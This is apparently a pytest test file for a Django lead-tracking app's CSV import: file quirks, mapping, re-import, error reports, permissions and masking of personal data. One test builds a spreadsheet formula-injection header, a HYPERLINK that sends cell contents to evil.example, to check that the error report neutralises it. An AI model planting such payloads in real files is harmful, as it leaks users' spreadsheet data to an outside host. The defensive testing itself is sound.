"""CSV import: real-world file quirks, idempotent re-import, bad rows, and the pages."""

import csv
import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from leadroute.shared.csv_export import csv_cell
from pools.capture import normalise
from pools.capture.imports import mapping as m
from pools.capture.imports.parsing import csv_inspect, csv_rows
from pools.capture.imports.runs import import_job_run
from pools.capture.imports.services import (
    ImportRefused,
    import_job_create,
    import_job_start,
)
from pools.lifecycle import LeadState
from pools.models import ImportJob, Lead

pytestmark = pytest.mark.django_db

MESSY = (
    "\ufeffFull Name;E-mail;Phone;Country;Company;Signup date;Notes;Employees\r\n"
    'José Álvarez;jose@example.com;11 91234-5678;Brasil;"Acme; Ltda";31/12/2023;'
    '"says ""hi""";1000+\r\n'
    "Ann Lee;N/A;+44 20 7946 0958;United Kingdom;Select;01-02-2024;;\r\n"
    ";;;;;;;\r\n"
    "Bad Mail;not-an-email;;;;;;\r\n"
    "No Contact;;;;Nobody Inc;;;\r\n"
    "Bad date;bd@example.com;;;;2024-13-45;;\r\n"
)


def run_import(user, source, content: bytes, mapping=None):
    job = import_job_create(user=user, source=source, filename="f.csv", content=content)
    job = import_job_start(job=job, mapping=mapping or job.mapping)
    import_job_run(job_id=job.pk)
    job.refresh_from_db()
    return job


def test_inspect_handles_bom_semicolon_crlf_quotes():
    info = csv_inspect(MESSY.encode("utf-8"))
    assert info.encoding == "utf-8" and info.delimiter == ";"
    assert info.headers[0] == "Full Name" and info.total == 5  # the blank row is skipped
    rows = list(csv_rows(MESSY.encode(), encoding="utf-8", delimiter=";", headers=info.headers))
    assert rows[0][1]["Company"] == "Acme; Ltda" and rows[0][1]["Notes"] == 'says "hi"'
    assert [n for n, _ in rows] == [2, 3, 5, 6, 7]  # as Excel numbers them


def test_latin1_file_is_read():
    content = "name,email\nJosé Müller,jm@example.com\n".encode("latin-1")
    info = csv_inspect(content)
    assert info.encoding in ("cp1252", "latin-1") and info.delimiter == ","
    ((_, row),) = csv_rows(content, encoding=info.encoding, delimiter=",", headers=info.headers)
    assert row["name"] == "José Müller"


def test_mapping_guess_and_problems():
    guess = m.mapping_guess(
        [
            "mql_id",
            "first_contact_date",
            "landing_page_id",
            "origin",
            "E-mail Address",
            "Lead Number",
            "Email",
        ]
    )
    assert guess == {
        "mql_id": "external_id",
        "first_contact_date": m.RECEIVED_AT,
        "landing_page_id": "landing_page",
        "origin": "campaign",
        "E-mail Address": "email",
        "Lead Number": m.ATTRIBUTE,
        "Email": m.ATTRIBUTE,
    }
    # "Nome" is the first name only beside a surname column; alone, the whole name.
    assert m.mapping_guess(["Nome", "Sobrenome", "E-mail"])["Nome"] == "first_name"
    assert m.mapping_guess(["Nome", "Telefone"]) == {"Nome": "full_name", "Telefone": "phone"}
    assert m.mapping_guess(["Nome", "Name"])["Nome"] == "first_name"  # "Name" is the full one
    assert m.mapping_problems({"a": "email", "b": "email"}, ["a", "b"])
    assert m.mapping_problems({"a": "company"}, ["a"])  # nothing identifies a lead


def test_messy_file_imports_good_rows_and_reports_bad_ones(manager, source):
    job = run_import(manager, source, MESSY.encode("utf-8"))
    assert job.status == ImportJob.Status.DONE
    assert (job.processed, job.created, job.duplicates, job.rejected) == (5, 2, 0, 3)
    jose = Lead.objects.get(email="jose@example.com")
    assert (jose.first_name, jose.last_name, jose.country, jose.phone) == (
        "José",
        "Álvarez",
        "BR",
        "+5511912345678",
    )
    assert jose.company == "Acme; Ltda" and jose.company_size == "1000+"
    assert jose.created_at.date().isoformat() == "2023-12-31"  # day-first
    assert jose.attributes == {"Notes": 'says "hi"'}
    ann = Lead.objects.get(phone="+442079460958")
    assert ann.email == "" and ann.company == ""  # "N/A" and "Select" are blanks
    assert ann.created_at.date().isoformat() == "2024-02-01"
    report = {(e.row, e.column): e.reason for e in job.row_errors.all()}
    assert "not a valid e-mail" in report[(5, "E-mail")]
    assert "No e-mail, phone or external id" in report[(6, "")]
    assert "not a date" in report[(7, "Signup date")]


def test_reimport_creates_no_duplicates(manager, source):
    first = run_import(manager, source, MESSY.encode("utf-8"))
    again = run_import(manager, source, MESSY.encode("utf-8"))
    assert (again.created, again.duplicates, again.rejected) == (0, first.created, 3)
    assert Lead.objects.count() == 2
    # A repeated row is replayed, not logged as a new inquiry on the lead.
    assert not Lead.objects.get(email="jose@example.com").events.filter(kind="inquiry").exists()


def test_reimporting_a_row_that_joined_another_lead_logs_no_second_inquiry(manager, source):
    from tests.factories import LeadFactory

    ana = LeadFactory(email="ana@example.com", team=source.team)
    content = b"id,email\r\nA-1,ana@example.com\r\n"
    run_import(manager, source, content)
    again = run_import(manager, source, content)
    assert (again.created, again.duplicates) == (0, 1)
    assert ana.events.filter(kind="inquiry").count() == 1


def test_crash_in_a_row_leaves_no_half_lead_and_others_import(manager, source, monkeypatch):
    from pools.capture import services as capture

    real = capture._remember

    def flaky(*, source, lead, keys):
        if lead.email == "jose@example.com":
            raise RuntimeError("disk on fire")
        return real(source=source, lead=lead, keys=keys)

    monkeypatch.setattr(capture, "_remember", flaky)
    job = run_import(manager, source, MESSY.encode("utf-8"))
    assert job.status == ImportJob.Status.DONE and job.created == 1 and job.rejected == 4
    assert not Lead.objects.filter(email="jose@example.com").exists()
    assert "disk on fire" in job.row_errors.get(row=2).reason


@pytest.mark.parametrize(
    "content, message",
    [(b"", "empty"), (b"PK\x03\x04\x00\x00binary", "binary"), (b"a,b\r\n", "no rows")],
)
def test_unreadable_files_are_refused(manager, source, content, message):
    with pytest.raises(ImportRefused, match=message):
        import_job_create(user=manager, source=source, filename="x.csv", content=content)


def test_start_twice_starts_once(manager, source):
    job = import_job_create(user=manager, source=source, filename="f.csv", content=MESSY.encode())
    import_job_start(job=job, mapping=job.mapping)
    job.refresh_from_db()
    assert job.status == ImportJob.Status.QUEUED
    again = import_job_start(job=job, mapping={**job.mapping, "Notes": ""})
    assert again.mapping["Notes"] == m.ATTRIBUTE


# --- pages ------------------------------------------------------------------------------


def test_upload_map_run_and_watch_progress(
    manager, client_for, source, eager_celery, django_capture_on_commit_callbacks
):
    client = client_for(manager)
    page = client.get("/leads/import/")
    assert page.status_code == 200 and "Website" in page.content.decode()
    upload = SimpleUploadedFile("messy.csv", MESSY.encode("utf-8"), content_type="text/csv")
    response = client.post("/leads/import/", {"source": source.pk, "file": upload})
    job = ImportJob.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/leads/import/{job.pk}/"
    mapping_page = client.get(f"/leads/import/{job.pk}/").content.decode()
    assert "Check the columns" in mapping_page and "jose@example.com" in mapping_page
    form = {f"col_{i}": job.mapping[h] for i, h in enumerate(job.headers)}
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(f"/leads/import/{job.pk}/", form)
    assert response.status_code == 302
    job.refresh_from_db()
    assert job.status == ImportJob.Status.DONE and job.created == 2
    # One intake task per batch screened and routed the new leads (eager Celery here).
    assert set(Lead.objects.values_list("status", flat=True)) == {LeadState.POOLED}
    fragment = client.get(f"/leads/import/{job.pk}/", HTTP_HX_REQUEST="true").content.decode()
    assert 'id="import-progress"' in fragment and "<html" not in fragment
    assert "every 1s" not in fragment  # finished: polling stops
    report = client.get(f"/leads/import/{job.pk}/errors.csv")
    assert report["Content-Type"].startswith("text/csv")
    lines = report.content.decode("utf-8-sig").splitlines()
    assert lines[0] == "row,column,reason" and len(lines) == 4


def test_running_job_fragment_polls(manager, client_for, source):
    job = import_job_create(user=manager, source=source, filename="f.csv", content=MESSY.encode())
    ImportJob.objects.filter(pk=job.pk).update(status=ImportJob.Status.RUNNING, processed=3)
    html = (
        client_for(manager).get(f"/leads/import/{job.pk}/", HTTP_HX_REQUEST="true").content.decode()
    )
    assert 'hx-trigger="every 1s"' in html and "3 of 5 rows" in html


def test_bad_mapping_is_shown_not_started(manager, client_for, source):
    job = import_job_create(user=manager, source=source, filename="f.csv", content=MESSY.encode())
    form = {f"col_{i}": "" for i in range(len(job.headers))}
    response = client_for(manager).post(f"/leads/import/{job.pk}/", form)
    assert response.status_code == 200
    assert "Map at least one column to e-mail" in response.content.decode()
    job.refresh_from_db()
    assert job.status == ImportJob.Status.MAPPING


@pytest.mark.parametrize(
    "content, message",
    [(b"", "The submitted file is empty."), (b"PK\x03\x04\x00\x00binary", "binary")],
)
def test_upload_of_garbage_shows_message(manager, client_for, source, content, message):
    upload = SimpleUploadedFile("x.csv", content, content_type="text/csv")
    response = client_for(manager).post("/leads/import/", {"source": source.pk, "file": upload})
    assert response.status_code == 200 and not ImportJob.objects.exists()
    assert message in response.content.decode()


def test_import_pages_permissions(manager, rep, outsider, client_for, source, other_team):
    from tests.factories import make_manager

    job = import_job_create(user=manager, source=source, filename="f.csv", content=MESSY.encode())
    for url in ("/leads/import/", f"/leads/import/{job.pk}/", f"/leads/import/{job.pk}/errors.csv"):
        assert client_for(rep).get(url).status_code == 403
        assert client_for(outsider).get(url).status_code == 403
    stranger = client_for(make_manager(teams=[other_team]))
    assert stranger.get(f"/leads/import/{job.pk}/").status_code == 404
    # Another team's manager cannot import into this team's source.
    upload = SimpleUploadedFile("m.csv", MESSY.encode(), content_type="text/csv")
    assert stranger.post("/leads/import/", {"source": source.pk, "file": upload}).status_code == 200
    assert ImportJob.objects.count() == 1
    assert client_for(manager).delete("/leads/import/").status_code == 405
    assert client_for(manager).post(f"/leads/import/{job.pk}/errors.csv").status_code == 405


def test_job_page_query_count_is_constant(manager, client_for, source, queries_of):
    client = client_for(manager)

    def pages(bad_rows: int) -> tuple[int, int]:
        content = "Email\r\n" + "".join(f"bad{i}\r\n" for i in range(bad_rows))
        job = run_import(manager, source, content.encode())
        return (
            queries_of(lambda: client.get(f"/leads/import/{job.pk}/")),
            queries_of(lambda: client.get("/leads/import/")),
        )

    few = pages(3)
    assert max(few) <= 10
    assert pages(40) == few  # more rows, more errors, more jobs listed: the same queries


def test_imported_leads_are_new_until_screened(manager, source):
    run_import(manager, source, MESSY.encode())
    assert set(Lead.objects.values_list("status", flat=True)) == {LeadState.NEW}


def test_same_external_id_twice_in_one_file_makes_one_lead(manager, source):
    content = b"id,email\r\nA-1,one@example.com\r\nA-1,other@example.com\r\nA-2,\r\n"
    job = run_import(manager, source, content)
    assert (job.created, job.duplicates, job.rejected) == (2, 1, 0)
    assert Lead.objects.get(external_id="A-1").email == "one@example.com"


AMOUNTS = "E-mail;Deal value\r\na@example.com;12.500,00\r\nb@example.com;12.500\r\n"


def test_amounts_follow_the_mark_the_file_shows(manager, source):
    # "12.500,00" can only be a decimal comma, so the file's "12.500" is 12500, not 12.5.
    job = run_import(manager, source, AMOUNTS.encode())
    assert job.decimal_mark == "," and job.created == 2
    values = dict(Lead.objects.values_list("email", "estimated_value"))
    assert values == {"a@example.com": Decimal("12500.00"), "b@example.com": Decimal("12500.00")}


def test_an_ambiguous_amount_is_a_row_error_when_the_file_does_not_tell(manager, source):
    job = run_import(
        manager, source, b"E-mail,Deal value\na@example.com,12.500\nb@example.com,300\n"
    )
    assert job.decimal_mark == "" and job.created == 1 and job.rejected == 1
    error = job.row_errors.get()
    assert (error.row, error.column) == (2, "Deal value") and "ambiguous" in error.reason
    assert not Lead.objects.filter(email="a@example.com").exists()


def test_the_chosen_decimal_mark_reads_every_amount(manager, source):
    job = import_job_create(
        user=manager,
        source=source,
        filename="f.csv",
        content=b'E-mail,Deal value\na@example.com,"12,500"\n',
    )
    import_job_run(job_id=import_job_start(job=job, mapping=job.mapping, decimal_mark=".").pk)
    assert Lead.objects.get().estimated_value == Decimal("12500.00")


def test_a_file_mixing_decimal_marks_must_say_which(manager, source):
    content = b"E-mail;Deal value\na@example.com;1.234,56\nb@example.com;1,234.56\n"
    job = import_job_create(user=manager, source=source, filename="f.csv", content=content)
    with pytest.raises(ImportRefused, match="mix decimal marks"):
        import_job_start(job=job, mapping=job.mapping)
    job.refresh_from_db()
    assert job.status == ImportJob.Status.MAPPING


def test_mapping_page_offers_the_decimal_mark(manager, source, client_for):
    job = import_job_create(user=manager, source=source, filename="f.csv", content=AMOUNTS.encode())
    c, page = client_for(manager), reverse("pools:import_job", args=[job.pk])
    assert "Amounts in this file" in c.get(page).content.decode()
    data = {f"col_{i}": job.mapping.get(h, "") for i, h in enumerate(job.headers)}
    c.post(page, {**data, "decimal_mark": "."})
    job.refresh_from_db()
    assert job.status != ImportJob.Status.MAPPING and job.decimal_mark == "."


def test_the_error_report_cannot_carry_a_formula_to_a_spreadsheet(manager, client_for, source):
    # A stranger's file names its e-mail column with a formula: the report echoes the
    # column's name beside each bad row, as text a spreadsheet will not run.
    header = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    content = f'"{header.replace(chr(34), chr(34) * 2)}",Phone\r\nnot-an-email,\r\n'.encode()
    job = run_import(manager, source, content, mapping={header: "email", "Phone": "phone"})
    report = client_for(manager).get(f"/leads/import/{job.pk}/errors.csv")
    rows = list(csv.reader(io.StringIO(report.content.decode("utf-8-sig"))))
    assert rows[0] == ["row", "column", "reason"]
    assert [row[1] for row in rows[1:]] == ["'" + header]


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("Acme = best", "Acme = best"),
        (-2, -2),
        (None, None),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_become_text(value, written):
    assert csv_cell(value) == written


def test_a_finished_import_keeps_its_report_but_not_the_file(manager, source):
    job = run_import(manager, source, MESSY.encode("utf-8"))
    assert job.status == ImportJob.Status.DONE and bytes(job.content) == b""
    assert job.row_errors.count() == 3 and job.created == 2


def test_the_error_report_and_the_log_do_not_repeat_contacts(manager, source, monkeypatch, caplog):
    from pools.capture import services as capture

    real = capture._remember

    def flaky(*, source, lead, keys):
        if lead.email == "ok@example.com":
            raise RuntimeError(f"duplicate key (email)=({lead.email}, {lead.phone})")
        return real(source=source, lead=lead, keys=keys)

    monkeypatch.setattr(capture, "_remember", flaky)
    content = (
        b"Email,Phone\r\n"
        b"rita.lopes@example,+44 20 7946 0958\r\n"  # not an e-mail: quoted in the reason
        b"bo@example.com,+1 999 999 99999 9\r\n"  # not a phone
        b"ok@example.com,+44 20 7946 0011\r\n"  # breaks while saving
    )
    with caplog.at_level("WARNING"):
        job = run_import(manager, source, content)
    reasons = list(job.row_errors.order_by("row").values_list("reason", flat=True))
    assert reasons[0] == "“r•••@example” is not a valid e-mail address."
    assert reasons[1].startswith("“•••") and "is not" in reasons[1]
    assert reasons[2] == "Could not be saved: duplicate key (email)=(o•••@example.com, •••11)"
    for secret in ("rita.lopes", "999 999", "ok@example.com", "7946 0011", "+442079460011"):
        assert not any(secret in r for r in reasons), secret
        assert secret not in caplog.text, secret


@pytest.mark.parametrize(
    "value, masked",
    [
        ("ana.souza@example.com", "a•••@example.com"),
        ("+55 (11) 91234-5678", "•••78"),
        ("not-an-email", "n•••"),
        ("", ""),
    ],
)
def test_personal_mask(value, masked):
    assert normalise.personal_mask(value) == masked


def test_a_brazilian_file_without_a_country_column_reads_phones_in_the_sources_country(
    manager, source
):
    """Every row of such a file was rejected ("give the phone in international form"),
    though the web form of the same source reads these numbers in its default country.
    Its Portuguese headers are guessed too, accents and all."""
    content = (
        b"Nome;Telefone;Empresa;Estado;Valor\r\n"
        b"Ana;11 98888-0001;Loja A;SP;1.500,00\r\n"
        b"Bia;21 97777-0002;Loja B;RJ;300,00\r\n"
    )
    job = import_job_create(user=manager, source=source, filename="f.csv", content=content)
    assert job.mapping["Estado"] == "state" and job.mapping["Valor"] == "estimated_value"
    assert m.mapping_guess(["País"]) == {"País": "country"}
    rejected = run_import(manager, source, content)
    assert (rejected.created, rejected.rejected) == (0, 2)  # no country: nowhere to read them
    source.default_country = "BR"
    source.save()
    job = run_import(manager, source, content)
    assert (job.created, job.rejected) == (2, 0)
    assert set(Lead.objects.values_list("phone", flat=True)) == {
        "+5511988880001",
        "+5521977770002",
    }
